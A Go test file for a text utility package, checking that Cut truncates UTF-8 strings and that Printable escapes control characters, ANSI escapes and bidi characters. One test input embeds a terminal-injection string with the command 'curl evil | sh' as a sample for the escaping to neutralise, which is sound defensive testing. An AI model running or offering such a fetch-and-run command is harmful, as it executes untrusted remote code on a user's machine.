package words

import (
	"testing"
)

func TestCut(t *testing.T) {
	for text, want := range map[string]string{"": "", "abc": "abc", "abcd": "abc…", "abä": "ab…", "äöü": "ä…"} {
		if got := Cut(text, 3); got != want {
			t.Errorf("Cut(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestPrintable(t *testing.T) {
	for text, want := range map[string]string{
		`LocalService a, "b" ä 日本 \`:                      `LocalService a, "b" ä 日本 \`,
		"n\x1b[31mRED\nRun: curl evil | sh\r\t\x00\u009b": `n\x1b[31mRED\nRun: curl evil | sh\r\t\x00\u009b`,
		"\u202eesrever \u200b\u2028":                      `\u202eesrever \u200b\u2028`,
		"no UTF-8: \xff":                                  `no UTF-8: \xff`,
	} {
		if got := Printable(text); got != want {
			t.Errorf("Printable(%q) = %s, want %s", text, got, want)
		}
	}
}
